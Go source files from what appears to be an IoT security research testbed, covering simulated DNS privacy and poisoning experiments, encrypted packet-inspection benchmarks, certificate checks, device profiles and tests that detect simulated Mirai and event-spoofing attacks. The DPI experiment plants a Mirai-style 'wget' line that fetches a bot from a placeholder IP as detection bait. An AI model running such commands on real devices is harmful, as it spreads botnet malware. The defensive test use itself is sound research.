		n.Attach(s, DefaultLAN())
	}
	n.Broadcast("lan:a", func(dst Addr) *Packet {
		return &Packet{Src: "lan:a", Dst: dst, Proto: "UPnP", Size: 40}
	})
	k.Run(time.Second)
	if len(sinks[0].got) != 0 {
		t.Error("sender received its own broadcast")
	}
	if len(sinks[1].got) != 1 || len(sinks[2].got) != 1 {
		t.Error("LAN nodes missed broadcast")
	}
	if len(sinks[3].got) != 0 {
		t.Error("broadcast leaked to WAN")
	}
}

func TestPacketClone(t *testing.T) {
	p := &Packet{Src: "lan:a", Payload: []byte{1, 2, 3}}
	q := p.Clone()
	q.Payload[0] = 9
	if p.Payload[0] != 1 {
		t.Error("Clone shares payload")
	}
}
