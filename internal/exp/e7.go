package exp

import (
	"bytes"
	"fmt"
	"time"

	"xlf/internal/device"
	"xlf/internal/dnsp"
	"xlf/internal/lwc"
	"xlf/internal/metrics"
	"xlf/internal/netsim"
	"xlf/internal/sim"
)

// runE7 compares the three DNS modes of §IV-A3 on the same home: cleartext
// DNS, end-to-end DoT, and the XLF lightweight bridge. It reports query
// latency, name exposure to observers, off-path poisoning success, and the
// device-side crypto cost on a Table I bulb-class device (the feasibility
// argument for the bridge).
//
// It is the E7 registry entry. Each DNS mode simulates its own home
// from the seed, so the three modes fan out across env.Workers.
func runE7(env *Env) *Result {
	r := &Result{ID: "E7", Title: "DNS privacy: plain vs DoT vs XLF lightweight bridge"}
	t := metrics.NewTable("", "Mode", "MeanLatency", "NamesVisible", "PoisonSucceeds", "BulbCryptoCost/query")

	reg := lwc.NewRegistry()
	bulb, err := device.ProfileByName("Philips Hue Lightbulb")
	if err != nil {
		panic(err)
	}
	aes, _ := reg.Lookup("AES")
	present, _ := reg.Lookup("PRESENT")
	// Device-side per-query crypto cost: DoT needs conventional-grade
	// crypto for the TLS record layer (~2 KB of processing per resolved
	// query incl. handshake amortisation); the bridge needs one
	// lightweight seal/open over ~120 bytes.
	dotCost := device.CostModel(bulb, aes.CyclesPerByte, aes.RAMBytes).SecondsPerKB * 2
	bridgeCost := device.CostModel(bulb, present.CyclesPerByte, present.RAMBytes).SecondsPerKB * 120 / 1024

	modes := []string{"DNS", "DoT", "XLF-bridge"}
	type e7Out struct {
		lat      time.Duration
		visible  int
		poisoned bool
	}
	points := Sweep(env, len(modes), func(i int, env *Env) e7Out {
		lat, visible, poisoned := e7Mode(env.Seed, modes[i])
		return e7Out{lat, visible, poisoned}
	})
	for i, mode := range modes {
		lat, visible, poisoned := points[i].lat, points[i].visible, points[i].poisoned
		cost := "none (gateway resolves)"
		switch mode {
		case "DoT":
			cost = fmt.Sprintf("%.2fms", dotCost*1e3)
		case "XLF-bridge":
			cost = fmt.Sprintf("%.2fms", bridgeCost*1e3)
		}
		t.AddRow(mode, lat.Truncate(time.Microsecond).String(),
			fmt.Sprint(visible), fmt.Sprint(poisoned), cost)
		r.num("latency_ms_"+mode, float64(lat)/1e6)
		r.num("visible_"+mode, float64(visible))
		r.num("poisoned_"+mode, boolTo01(poisoned))
	}
	r.num("bulb_dot_ms", dotCost*1e3)
	r.num("bulb_bridge_ms", bridgeCost*1e3)
	r.Output = t.String() + fmt.Sprintf(
		"\nbulb-class device crypto budget: DoT-grade %.2fms vs bridge %.3fms per query (%.0fx)\n",
		dotCost*1e3, bridgeCost*1e3, dotCost/bridgeCost)
	return r
}

// e7Mode resolves a set of vendor domains under one mode and measures mean
// latency, observer-visible names, and off-path poisoning success.
func e7Mode(seed int64, mode string) (time.Duration, int, bool) {
	k := sim.NewKernel(seed)
	n := netsim.New(k)
	names := []string{"api.nest.example", "dropcam.example", "bridge.hue.example", "food.fridge.example"}
	var records []netsim.DNSRecord
	for _, nm := range names {
		records = append(records, netsim.DNSRecord{Name: nm, Addr: netsim.Addr("wan:" + nm), TTL: time.Minute})
	}
	srv := netsim.NewDNSServer("wan:dns", records)
	if err := n.Attach(srv, netsim.DefaultWAN()); err != nil {
		panic(err)
	}
	cap := netsim.NewCapture()
	n.AddTap(netsim.TapWAN, cap.Tap())
	n.AddTap(netsim.TapLAN, cap.Tap())

	var lat metrics.Latencies
	poisonTarget := "dropcam.example"
	var poisoned bool

	switch mode {
	case "DNS", "DoT":
		res := netsim.NewResolver("lan:resolver", "wan:dns", mode)
		if err := n.Attach(res, netsim.DefaultLAN()); err != nil {
			panic(err)
		}
		for _, nm := range names {
			nm := nm
			if nm == poisonTarget {
				// Off-path forgery racing this query (the attacker
				// observes or predicts the lookup timing).
				n.Send(&netsim.Packet{
					Src: "wan:attacker", Dst: "lan:resolver", SrcPort: 53, DstPort: 5353,
					Proto: "DNS", Size: 120, DNSName: poisonTarget, Payload: []byte("wan:attacker"),
				})
			}
			start := k.Now()
			res.Lookup(n, nm, func(a netsim.Addr, err error) {
				lat.Observe(k.Now() - start)
				if nm == poisonTarget && a == "wan:attacker" {
					poisoned = true
				}
			})
			k.Run(k.Now() + 2*time.Second)
		}
	case "XLF-bridge":
		upstream := netsim.NewResolver("lan:up", "wan:dns", "DoT")
		if err := n.Attach(upstream, netsim.DefaultLAN()); err != nil {
			panic(err)
		}
		blk, err := lwc.NewPRESENT(bytes.Repeat([]byte{9}, 10))
		if err != nil {
			panic(err)
		}
		codec, err := dnsp.NewCodec(blk)
		if err != nil {
			panic(err)
		}
		bridge := dnsp.NewBridge("lan:bridge", codec, upstream)
		if err := n.Attach(bridge, netsim.DefaultLAN()); err != nil {
			panic(err)
		}
		stub := dnsp.NewStub("lan:bulb", "lan:bridge", codec)
		dev := &netsim.FuncNode{Address: "lan:bulb", Fn: func(_ *netsim.Network, pkt *netsim.Packet) {
			stub.HandleResponse(pkt)
		}}
		if err := n.Attach(dev, netsim.DefaultLAN()); err != nil {
			panic(err)
		}
		for _, nm := range names {
			nm := nm
			if nm == poisonTarget {
				n.Send(&netsim.Packet{
					Src: "wan:attacker", Dst: "lan:up", SrcPort: 53, DstPort: 5353,
					Proto: "DNS", Size: 120, DNSName: poisonTarget, Payload: []byte("wan:attacker"),
				})
			}
			start := k.Now()
			if err := stub.Query(n, nm, func(a netsim.Addr, err error) {
				lat.Observe(k.Now() - start)
				if nm == poisonTarget && a == "wan:attacker" {
					poisoned = true
				}
			}); err != nil {
				panic(err)
			}
			k.Run(k.Now() + 2*time.Second)
		}
	}

	visible := 0
	for _, rec := range cap.Records() {
		if rec.DNSName != "" {
			visible++
		}
	}
	return lat.Mean(), visible, poisoned
}
