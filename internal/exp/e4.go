package exp

import (
	"fmt"

	"xlf/internal/dpi"
	"xlf/internal/metrics"
)

// runE4 measures the price of privacy-preserving traffic monitoring:
// matching throughput of plaintext Aho-Corasick versus BlindBox-style
// searchable-encryption token matching over the same payload corpus, plus
// detection equivalence between the two paths.
//
// It is the E4 registry entry; all three matching stages are timed on
// env.Clock, so the stages stay sequential (they share the clock).
func runE4(env *Env) *Result {
	r := &Result{ID: "E4", Title: "Encrypted DPI: plaintext vs searchable-encryption matching"}
	rs, err := dpi.NewRuleSet(dpi.IoTMalwareRules())
	if err != nil {
		panic(err)
	}
	tk, err := dpi.NewTokenizer([]byte("e4-session-key"))
	if err != nil {
		panic(err)
	}
	det, err := dpi.NewEncryptedDetector(rs, tk)
	if err != nil {
		panic(err)
	}

	// Corpus: benign payloads with signatures planted in ~20%.
	rng := env.Rand()
	const nPayloads = 400
	payloads := make([][]byte, nPayloads)
	infected := make([]bool, nPayloads)
	var totalBytes int
	for i := range payloads {
		var p []byte
		for j := 0; j < 3+rng.Intn(5); j++ {
			chunk := make([]byte, 20+rng.Intn(80))
			for k := range chunk {
				chunk[k] = byte('a' + rng.Intn(26))
			}
			p = append(p, chunk...)
		}
		if rng.Float64() < 0.2 {
			infected[i] = true
			// Plant a full mirai-loader signature pair.
			p = append(p, []byte("/bin/busybox ")...)
			p = append(p, []byte("wget http://203.0.113.9/bot ")...)
		}
		payloads[i] = p
		totalBytes += len(p)
	}

	// Plaintext path.
	plainHits := 0
	plainSec := env.timeSection(func() {
		for _, p := range payloads {
			if len(rs.MatchPlain(p)) > 0 {
				plainHits++
			}
		}
	}).Seconds()

	// Tokenisation cost (endpoint side).
	tokens := make([][]uint64, nPayloads)
	tokenizeSec := env.timeSection(func() {
		for i, p := range payloads {
			tokens[i] = tk.Tokenize(p)
		}
	}).Seconds()

	// Encrypted matching (middlebox side).
	encHits := 0
	encSec := env.timeSection(func() {
		for _, ts := range tokens {
			if len(det.MatchTokens(ts)) > 0 {
				encHits++
			}
		}
	}).Seconds()

	var conf metrics.Confusion
	for i := range payloads {
		conf.Record(len(det.MatchTokens(tokens[i])) > 0, infected[i])
	}

	mbps := func(sec float64) float64 {
		if sec <= 0 {
			return 0
		}
		return float64(totalBytes) / sec / 1e6
	}
	t := metrics.NewTable("", "Path", "Throughput MB/s", "Detections")
	t.AddRow("plaintext AC", fmt.Sprintf("%.1f", mbps(plainSec)), fmt.Sprint(plainHits))
	t.AddRow("tokenize (endpoint)", fmt.Sprintf("%.1f", mbps(tokenizeSec)), "-")
	t.AddRow("encrypted match (middlebox)", fmt.Sprintf("%.1f", mbps(encSec)), fmt.Sprint(encHits))

	// The encrypted path's end-to-end rate is bounded by its slowest
	// stage — in BlindBox-style designs that is endpoint tokenisation.
	effEnc := mbps(tokenizeSec)
	if m := mbps(encSec); m < effEnc {
		effEnc = m
	}
	slowdown := 0.0
	if effEnc > 0 {
		slowdown = mbps(plainSec) / effEnc
	}
	r.Output = t.String() + fmt.Sprintf(
		"\ndetection vs ground truth over tokens: %s\n"+
			"encrypted path effective throughput %.1f MB/s (bottleneck: endpoint tokenisation)\n"+
			"plaintext inspection is %.1fx faster — the privacy price of not breaking TLS\n",
		conf, effEnc, slowdown)
	r.num("plain_mbps", mbps(plainSec))
	r.num("enc_mbps", effEnc)
	r.num("equal_detections", boolTo01(plainHits == encHits))
	r.num("recall", conf.Recall())
	return r
}

func boolTo01(b bool) float64 {
	if b {
		return 1
	}
	return 0
}
