package xauth

import (
	"crypto/ed25519"
	"errors"
	"fmt"
	"time"
)

// X.509-style credentials (§II-B: "the X.509 standard could be adopted to
// support authentication, for gateways, users, and applications and
// services"). A minimal profile: one CA, depth-1 chains, ed25519
// signatures, and a revocation list — enough to mutually authenticate the
// gateway, the cloud, and third-party services in the testbed without
// dragging in ASN.1.

// Role restricts what a certificate may authenticate as.
type Role string

// Certificate roles.
const (
	RoleGateway Role = "gateway"
	RoleCloud   Role = "cloud"
	RoleService Role = "service"
	RoleUser    Role = "user"
)

// Cert is a signed identity binding.
type Cert struct {
	Subject   string
	Role      Role
	PublicKey ed25519.PublicKey
	NotBefore time.Duration
	NotAfter  time.Duration
	Serial    uint64
	Signature []byte
}

// message is the byte string the CA signs.
func (c *Cert) message() []byte {
	return []byte(fmt.Sprintf("%s|%s|%x|%d|%d|%d", c.Subject, c.Role, c.PublicKey, c.NotBefore, c.NotAfter, c.Serial))
}

// Certificate verification errors.
var (
	ErrCertExpired   = errors.New("xauth: certificate expired or not yet valid")
	ErrCertSignature = errors.New("xauth: certificate signature invalid")
	ErrCertRevoked   = errors.New("xauth: certificate revoked")
	ErrCertRole      = errors.New("xauth: certificate role mismatch")
)

// CA is the testbed's certificate authority.
type CA struct {
	priv    ed25519.PrivateKey
	pub     ed25519.PublicKey
	serial  uint64
	revoked map[uint64]bool
}

// NewCA derives a CA deterministically from a 32-byte seed.
func NewCA(seed []byte) (*CA, error) {
	if len(seed) != ed25519.SeedSize {
		return nil, fmt.Errorf("xauth: CA seed must be %d bytes, got %d", ed25519.SeedSize, len(seed))
	}
	priv := ed25519.NewKeyFromSeed(seed)
	return &CA{priv: priv, pub: priv.Public().(ed25519.PublicKey), revoked: make(map[uint64]bool)}, nil
}

// PublicKey returns the CA verification key that relying parties pin.
func (ca *CA) PublicKey() ed25519.PublicKey { return ca.pub }

// Issue signs a certificate for a subject key.
func (ca *CA) Issue(subject string, role Role, pub ed25519.PublicKey, notBefore, notAfter time.Duration) (Cert, error) {
	if subject == "" {
		return Cert{}, errors.New("xauth: empty certificate subject")
	}
	if len(pub) != ed25519.PublicKeySize {
		return Cert{}, errors.New("xauth: bad subject public key")
	}
	if notAfter <= notBefore {
		return Cert{}, errors.New("xauth: certificate validity window empty")
	}
	ca.serial++
	c := Cert{
		Subject: subject, Role: role, PublicKey: pub,
		NotBefore: notBefore, NotAfter: notAfter, Serial: ca.serial,
	}
	c.Signature = ed25519.Sign(ca.priv, c.message())
	return c, nil
}

// Revoke adds a certificate to the CA's revocation list.
func (ca *CA) Revoke(serial uint64) { ca.revoked[serial] = true }

// Revoked reports revocation status (the "CRL" relying parties consult).
func (ca *CA) Revoked(serial uint64) bool { return ca.revoked[serial] }

// VerifyCert checks a certificate against the CA key, the clock, the
// expected role ("" = any), and the revocation list (nil = skip).
func VerifyCert(c Cert, caPub ed25519.PublicKey, now time.Duration, wantRole Role, revoked func(uint64) bool) error {
	if !ed25519.Verify(caPub, c.message(), c.Signature) {
		return ErrCertSignature
	}
	if now < c.NotBefore || now > c.NotAfter {
		return ErrCertExpired
	}
	if wantRole != "" && c.Role != wantRole {
		return fmt.Errorf("%w: have %s, want %s", ErrCertRole, c.Role, wantRole)
	}
	if revoked != nil && revoked(c.Serial) {
		return ErrCertRevoked
	}
	return nil
}

// Challenge-response: the holder proves possession of the certified key.

// ProvePossession signs a challenge with the subject's private key.
func ProvePossession(priv ed25519.PrivateKey, challenge []byte) []byte {
	return ed25519.Sign(priv, challenge)
}

// VerifyPossession validates a challenge signature under the certificate's
// key after the certificate itself verifies.
func VerifyPossession(c Cert, caPub ed25519.PublicKey, now time.Duration, wantRole Role, revoked func(uint64) bool, challenge, sig []byte) error {
	if err := VerifyCert(c, caPub, now, wantRole, revoked); err != nil {
		return err
	}
	if !ed25519.Verify(c.PublicKey, challenge, sig) {
		return errors.New("xauth: possession proof invalid")
	}
	return nil
}
