// Package sim is a determinism fixture: the test covers this package, so
// wall-clock reads and global math/rand calls are findings unless waived.
package sim

import (
	"math/rand"
	"time"
)

// Durations and seeded generators are fine; only wall-clock reads and the
// global generator are banned.
func ok() {
	rng := rand.New(rand.NewSource(1))
	_ = rng.Intn(3)
	_ = 5 * time.Second
}

func bad(t0 time.Time) {
	_ = time.Now()                     // want "\[determinism\] wall-clock read time.Now"
	_ = time.Since(t0)                 // want "\[determinism\] wall-clock read time.Since"
	_ = rand.Intn(5)                   // want "\[determinism\] global math/rand.Intn"
	_ = rand.Float64()                 // want "\[determinism\] global math/rand.Float64"
	rand.Shuffle(2, func(i, j int) {}) // want "\[determinism\] global math/rand.Shuffle"
}

func waivedInline() time.Time {
	return time.Now() //xlf:allow-wallclock sanctioned benchmark timing
}

func waivedAbove() time.Time {
	//xlf:allow-wallclock sanctioned benchmark timing
	return time.Now()
}

// waivedByDoc times a measurement section.
//
//xlf:allow-wallclock the whole function is measurement code
func waivedByDoc(t0 time.Time) time.Duration {
	return time.Since(t0)
}
