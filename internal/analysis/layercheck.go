package analysis

import (
	"strings"
)

// LayerCheck enforces the XLF import DAG: every package in the module must
// appear in the layer table, and may import only the intra-module packages
// the table grants it. The table is data, not convention — an edge the
// architecture does not declare is a build-gate failure, which is the
// "policy as physical law" posture applied to the codebase itself.
//
// Only non-test files are checked: test-only imports (a package pulling in
// the testbed to exercise itself) do not couple the production layers.
type LayerCheck struct {
	// Module is the module path ("xlf"); imports outside it are ignored.
	Module string
	// Allowed maps a package's module-relative path to the complete set of
	// module-relative import paths it may use. The module root package is
	// written ".". A value of "*" grants every intra-module import.
	Allowed map[string][]string
}

// NewLayerCheck builds the analyzer from one allowed-edge table.
func NewLayerCheck(module string, allowed map[string][]string) *LayerCheck {
	return &LayerCheck{Module: module, Allowed: allowed}
}

// Name implements Analyzer.
func (l *LayerCheck) Name() string { return "layercheck" }

// Doc implements Documented.
func (l *LayerCheck) Doc() string {
	return "package imports must follow the XLF layer DAG in DESIGN.md"
}

// rel maps an import path inside the module to its table key.
func (l *LayerCheck) rel(importPath string) (string, bool) {
	if importPath == l.Module {
		return ".", true
	}
	if rest, ok := strings.CutPrefix(importPath, l.Module+"/"); ok {
		return rest, true
	}
	return "", false
}

// Check implements Analyzer.
func (l *LayerCheck) Check(pkg *Package) []Finding {
	self, ok := l.rel(pkg.ImportPath)
	if !ok {
		return nil
	}
	granted, declared := l.Allowed[self]
	var out []Finding
	if !declared {
		out = append(out, pkg.finding(l.Name(), pkg.Files[0].AST.Package,
			"package %s is not declared in the layer table; add it to the architecture DAG before importing anything", pkg.ImportPath))
		return out
	}
	allowAll := false
	allowed := make(map[string]bool, len(granted))
	for _, g := range granted {
		if g == "*" {
			allowAll = true
		}
		allowed[g] = true
	}
	for _, f := range pkg.Files {
		if f.Test {
			continue
		}
		for _, imp := range f.AST.Imports {
			path := strings.Trim(imp.Path.Value, `"`)
			target, ok := l.rel(path)
			if !ok || allowAll || allowed[target] {
				continue
			}
			out = append(out, pkg.finding(l.Name(), imp.Pos(),
				"layer violation: %s may not import %s (edge not in the architecture DAG)", self, target))
		}
	}
	return out
}

var _ Analyzer = (*LayerCheck)(nil)
