// Package device models the XLF device layer: the hardware profiles of
// Table I, a cycle-budget cost model that maps cryptographic work onto
// constrained cores, and a runtime device abstraction (firmware, resident
// software, credentials, ports, sensors, and a ground-truth behaviour
// state machine) that the testbed instantiates for every appliance.
package device

import (
	"fmt"
	"math"
)

// PowerSource is the power column of Table I.
type PowerSource int

// Power sources, per Table I.
const (
	PowerUnknown PowerSource = iota
	PowerBattery
	PowerAC
	PowerPassive // RFID tags powered by the reader field
)

func (p PowerSource) String() string {
	switch p {
	case PowerBattery:
		return "Battery"
	case PowerAC:
		return "AC Power"
	case PowerPassive:
		return "Passive (field)"
	default:
		return "NA"
	}
}

// Class is the RFC 7228 constrained-device class, derived from RAM/flash.
type Class int

// Device classes. Class0 cannot run standard crypto stacks at all; Class1
// fits lightweight ciphers; Class2 runs conventional stacks; ClassUnconstrained
// is hub/phone grade.
const (
	Class0 Class = iota
	Class1
	Class2
	ClassUnconstrained
)

func (c Class) String() string {
	switch c {
	case Class0:
		return "C0 (<<10KB RAM)"
	case Class1:
		return "C1 (~10KB RAM)"
	case Class2:
		return "C2 (~50KB RAM)"
	default:
		return "unconstrained"
	}
}

// Profile is one row of Table I.
type Profile struct {
	Name       string
	Chipset    string
	CoreHz     float64 // core frequency in Hz
	RAMBytes   int64   // 0 = not applicable / unknown
	FlashBytes int64
	Power      PowerSource
	// BusWidth is the datapath width in bits (8, 16, 32, 64), which scales
	// software cipher cost relative to the 8/16-bit calibration point.
	BusWidth int
	// Kind tags the profile for testbed construction ("rfid", "sensor",
	// "hub", "camera", "appliance", "wearable", "phone").
	Kind string
}

// DeviceClass derives the RFC 7228 class from the profile's RAM. Profiles
// with unlisted RAM (Table I prints "NA" for gateway/camera-class devices)
// are treated as unconstrained — their other specs put them far above the
// constrained classes.
func (p Profile) DeviceClass() Class {
	switch {
	case p.RAMBytes == 0:
		return ClassUnconstrained
	case p.RAMBytes < 4<<10:
		return Class0
	case p.RAMBytes < 32<<10:
		return Class1
	case p.RAMBytes < 1<<20:
		return Class2
	default:
		return ClassUnconstrained
	}
}

// CipherCost describes the modeled cost of running a cipher on a profile.
type CipherCost struct {
	// SecondsPerKB is wall time to process 1024 bytes.
	SecondsPerKB float64
	// MicroJoulePerKB is the energy draw per 1024 bytes for battery
	// accounting (0 for AC/passive).
	MicroJoulePerKB float64
	// Fits reports whether the working RAM of the cipher fits the device.
	Fits bool
}

// CostModel maps cipher software cost onto a hardware profile. It is the
// substitution for the paper's real Table I hardware (see DESIGN.md):
// cyclesPerByte is calibrated for an 8/16-bit MCU class core; wider
// datapaths divide the cycle count, and clock frequency converts cycles to
// time. Energy uses a canonical 1 nJ/cycle MCU draw.
func CostModel(p Profile, cyclesPerByte float64, ramBytes int) CipherCost {
	if p.CoreHz <= 0 {
		return CipherCost{SecondsPerKB: math.Inf(1), Fits: false}
	}
	widthScale := 1.0
	if p.BusWidth >= 32 {
		widthScale = 0.25
	} else if p.BusWidth >= 16 {
		widthScale = 0.5
	}
	cycles := cyclesPerByte * widthScale * 1024
	sec := cycles / p.CoreHz
	var uj float64
	if p.Power == PowerBattery {
		uj = cycles * 1e-3 // 1 nJ/cycle => 1e-3 uJ/cycle
	}
	fits := p.RAMBytes == 0 || int64(ramBytes) <= p.RAMBytes/4 // leave 3/4 for the application
	return CipherCost{SecondsPerKB: sec, MicroJoulePerKB: uj, Fits: fits}
}

// Table1 returns the 20 rows of the paper's Table I.
func Table1() []Profile {
	const (
		kb = 1 << 10
		mb = 1 << 20
		gb = 1 << 30
	)
	return []Profile{
		{Name: "HID Glass Tag Ultra (RFID)", Chipset: "EM 4305", CoreHz: 134.2e3, RAMBytes: 512 / 8, FlashBytes: 0, Power: PowerPassive, BusWidth: 8, Kind: "rfid"},
		{Name: "HID Piccolino Tag (RFID)", Chipset: "I-Code SLIx, SLIx-S", CoreHz: 13.56e6, RAMBytes: 2048 / 8, FlashBytes: 0, Power: PowerPassive, BusWidth: 8, Kind: "rfid"},
		{Name: "Sensor Devices", Chipset: "Microcontroller", CoreHz: 16e6, RAMBytes: 8 * kb, FlashBytes: 64 * kb, Power: PowerBattery, BusWidth: 16, Kind: "sensor"},
		{Name: "Google Chromecast", Chipset: "ARM Cortex-A7", CoreHz: 1.2e9, RAMBytes: 512 * mb, FlashBytes: 256 * mb, Power: PowerUnknown, BusWidth: 32, Kind: "appliance"},
		{Name: "NETGEAR Router", Chipset: "Broadcom BCM4709A", CoreHz: 1.0e9, RAMBytes: 256 * mb, FlashBytes: 128 * kb, Power: PowerAC, BusWidth: 32, Kind: "hub"},
		{Name: "Gateway WISE-3310", Chipset: "ARM Cortex-A9", CoreHz: 1.0e9, RAMBytes: 0, FlashBytes: 4 * gb, Power: PowerAC, BusWidth: 32, Kind: "hub"},
		{Name: "REX2 Smart Meter", Chipset: "Teridian 71M6531F SoC", CoreHz: 10e6, RAMBytes: 4 * kb, FlashBytes: 256 * kb, Power: PowerBattery, BusWidth: 8, Kind: "sensor"},
		{Name: "Philips Hue Lightbulb", Chipset: "TI CC2530 SoC", CoreHz: 32e6, RAMBytes: 8 * kb, FlashBytes: 256 * kb, Power: PowerBattery, BusWidth: 8, Kind: "appliance"},
		{Name: "Nest Smoke Detector", Chipset: "ARM Cortex-M0", CoreHz: 48e6, RAMBytes: 16 * kb, FlashBytes: 128 * kb, Power: PowerBattery, BusWidth: 32, Kind: "sensor"},
		{Name: "Nest Learning Thermostat", Chipset: "ARM Cortex-A8", CoreHz: 800e6, RAMBytes: 512 * mb, FlashBytes: 2 * gb, Power: PowerBattery, BusWidth: 32, Kind: "appliance"},
		{Name: "Samsung Smart Cam", Chipset: "GM812x SoC", CoreHz: 540e6, RAMBytes: 0, FlashBytes: 64 * gb, Power: PowerAC, BusWidth: 32, Kind: "camera"},
		{Name: "Samsung Smart TV", Chipset: "ARM-based Exynos SoC", CoreHz: 1.3e9, RAMBytes: 1 * gb, FlashBytes: 0, Power: PowerAC, BusWidth: 32, Kind: "appliance"},
		{Name: "OORT Bluetooth Smart Controller", Chipset: "ARM Cortex-M0", CoreHz: 50e6, RAMBytes: 32 * kb, FlashBytes: 256 * kb, Power: PowerBattery, BusWidth: 32, Kind: "hub"},
		{Name: "Dacor Android Oven", Chipset: "PowerVR SGX 540 graphics", CoreHz: 1e9, RAMBytes: 512 * mb, FlashBytes: 0, Power: PowerAC, BusWidth: 32, Kind: "appliance"},
		{Name: "Fitbit Smart Wrist Band Flex", Chipset: "ARM Cortex-M3", CoreHz: 32e6, RAMBytes: 16 * kb, FlashBytes: 128 * kb, Power: PowerBattery, BusWidth: 32, Kind: "wearable"},
		{Name: "LG Watch Urbane 2nd Edition", Chipset: "Snapdragon 400 chipset", CoreHz: 1.2e9, RAMBytes: 768 * mb, FlashBytes: 4 * gb, Power: PowerBattery, BusWidth: 32, Kind: "wearable"},
		{Name: "Samsung Watch Gear S2", Chipset: "MSM8x26", CoreHz: 1.2e9, RAMBytes: 512 * mb, FlashBytes: 4 * gb, Power: PowerBattery, BusWidth: 32, Kind: "wearable"},
		{Name: "Apple Watch", Chipset: "S1", CoreHz: 520e6, RAMBytes: 512 * mb, FlashBytes: 8 * gb, Power: PowerBattery, BusWidth: 32, Kind: "wearable"},
		{Name: "iPhone 6s Plus", Chipset: "A9/64-bit/M9 coprocessor", CoreHz: 1.85e9, RAMBytes: 2 * gb, FlashBytes: 128 * gb, Power: PowerBattery, BusWidth: 64, Kind: "phone"},
		{Name: "12.9-inch iPad Pro", Chipset: "A9X/64-bit/M9 coprocessor", CoreHz: 1.85e9, RAMBytes: 4 * gb, FlashBytes: 256 * gb, Power: PowerBattery, BusWidth: 64, Kind: "phone"},
	}
}

// ProfileByName finds a Table I row by its printed name.
func ProfileByName(name string) (Profile, error) {
	for _, p := range Table1() {
		if p.Name == name {
			return p, nil
		}
	}
	return Profile{}, fmt.Errorf("device: no Table I profile named %q", name)
}
