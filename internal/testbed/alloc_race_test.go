//go:build race

package testbed

func init() { raceEnabledTestbed = true }
