package xlf

import (
	"strings"
	"testing"
	"time"

	"xlf/internal/analytics"
	"xlf/internal/attack"
	"xlf/internal/netsim"
	"xlf/internal/service"
)

func protectedSystem(t *testing.T, seed int64) *System {
	t.Helper()
	sys, err := New(Options{
		Seed: seed,
		// XLF protects a legacy platform that still has its flaws; the
		// point is that the cross-layer functions catch the abuse anyway.
		Flaws: service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	return sys
}

func TestBenignDayRaisesNoAlerts(t *testing.T) {
	sys := protectedSystem(t, 7)
	// A normal day: keepalives plus legitimate user interactions.
	sched := []struct {
		at    time.Duration
		dev   string
		event string
	}{
		{10 * time.Second, "bulb-1", "on"},
		{30 * time.Second, "thermo-1", "heat"},
		{50 * time.Second, "thermo-1", "target_reached"},
		{80 * time.Second, "bulb-1", "dim"},
		{2 * time.Minute, "bulb-1", "off"},
		{3 * time.Minute, "cam-1", "motion"},
		{3*time.Minute + 20*time.Second, "cam-1", "clear"},
	}
	for _, e := range sched {
		e := e
		sys.Home.Kernel.Schedule(e.at, "user", func() {
			if err := sys.Home.UserEvent(e.dev, e.event); err != nil {
				t.Errorf("user event %s/%s: %v", e.dev, e.event, err)
			}
		})
	}
	// Benign telemetry (sensor readings outside the actuation alphabet)
	// must not be misjudged as illegal transitions.
	sys.Home.Kernel.Every(45*time.Second, 0, "telemetry", func() {
		sys.Home.Cloud.PublishDeviceEvent("thermo-1", "temperature", 71.5)
	})
	if err := sys.Home.Run(5 * time.Minute); err != nil {
		t.Fatal(err)
	}
	if alerts := sys.Core.Alerts(); len(alerts) != 0 {
		t.Errorf("benign day produced %d alerts: %v", len(alerts), alerts)
	}
	if sys.NAC.Denials() != 0 {
		t.Errorf("benign day produced %d NAC denials", sys.NAC.Denials())
	}
}

func TestMiraiCampaignDetectedAndContained(t *testing.T) {
	sys := protectedSystem(t, 11)
	env := sys.Home.AttackEnv()

	m := &attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 10 * time.Second}
	res := m.Execute(env)
	if !res.Succeeded {
		t.Fatalf("recruitment failed: %s", res)
	}
	if err := sys.Home.Run(3 * time.Minute); err != nil {
		t.Fatal(err)
	}

	alerts := sys.Core.Alerts()
	if len(alerts) == 0 {
		t.Fatal("XLF raised no alerts for a Mirai campaign")
	}
	// The recruited camera must be flagged and contained.
	flagged := sys.Core.FlaggedDevices()
	camFlagged := false
	for _, id := range flagged {
		if id == "cam-1" {
			camFlagged = true
		}
	}
	if !camFlagged {
		t.Errorf("cam-1 not flagged; flagged=%v", flagged)
	}
	contained := false
	for _, a := range alerts {
		if a.DeviceID == "cam-1" && a.Action != "" {
			contained = true
		}
	}
	if !contained {
		t.Error("no containment action on the recruited camera")
	}
	// NAC (with C&C never enrolled) must have refused beacons even before
	// quarantine: wan:cnc is not an allowed destination.
	if sys.NAC.Denials() == 0 {
		t.Error("NAC never denied the C&C traffic")
	}
}

func TestNACBlocksCCBeacons(t *testing.T) {
	sys := protectedSystem(t, 13)
	env := sys.Home.AttackEnv()
	(&attack.MiraiRecruit{CNC: "wan:cnc", BeaconEvery: 5 * time.Second}).Execute(env)
	sys.Home.Run(2 * time.Minute)
	// No beacon may reach the WAN side: the C&C endpoint is not enrolled.
	for _, r := range sys.Home.WANCap.Records() {
		if r.Dst == "wan:cnc" {
			t.Fatalf("C&C beacon escaped the NAC: %+v", r)
		}
	}
}

func TestEventSpoofCaughtByBehaviorDFA(t *testing.T) {
	sys := protectedSystem(t, 17)
	env := sys.Home.AttackEnv()
	// Legitimate state: camera is monitoring. A spoofed "clear" event is
	// illegal (clear is only legal while recording).
	res := (&attack.EventSpoof{DeviceID: "cam-1", Event: "clear", Value: 1}).Execute(env)
	if !res.Succeeded {
		t.Fatalf("spoof rejected unexpectedly: %s", res)
	}
	sys.Home.Run(30 * time.Second)
	found := false
	for _, a := range sys.Core.Alerts() {
		for _, e := range a.Evidence {
			if e.Kind == "illegal-transition" && e.DeviceID == "cam-1" {
				found = true
			}
		}
	}
	if !found {
		// A single behaviour signal may sit below the alert threshold;
		// check the monitor recorded the deviation at minimum.
		if _, devs := sys.Monitors["cam-1"].Stats(); devs == 0 {
			t.Error("spoofed event not even recorded as deviation")
		}
	}
}

func TestDFALegalSpoofCaughtByRFEvidence(t *testing.T) {
	sys := protectedSystem(t, 83)
	env := sys.Home.AttackEnv()
	// "motion" IS legal in the camera's monitoring state, so the DFA
	// check passes — but the event was injected at the service layer with
	// no radio activity from the camera. Only the cross-layer RF check
	// catches it.
	res := (&attack.EventSpoof{DeviceID: "cam-1", Event: "motion", Value: 1}).Execute(env)
